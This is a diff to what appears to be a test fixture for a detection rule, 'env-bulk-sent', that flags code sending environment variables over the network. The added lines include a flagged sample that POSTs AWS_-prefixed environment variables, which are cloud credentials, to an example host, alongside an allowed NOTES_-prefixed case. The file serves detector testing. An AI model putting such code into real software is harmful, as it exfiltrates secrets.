@@ -71,3 +71,10 @@ export async function honest() {
   // ok: env-bulk-sent
   return 'fetch(URL, { body: JSON.stringify(process.env) })';
 }
+
+const own = Object.fromEntries(Object.entries(process.env).filter(([key]) => key.startsWith("NOTES_")));
+// ok: env-bulk-sent
+fetch("https://team.example.com/labels", { method: "POST", body: JSON.stringify(own) });
+const theirs = Object.fromEntries(Object.entries(process.env).filter(([key]) => key.startsWith("AWS_")));
+// ruleid: env-bulk-sent
+fetch("https://team.example.com/labels", { method: "POST", body: JSON.stringify(theirs) });
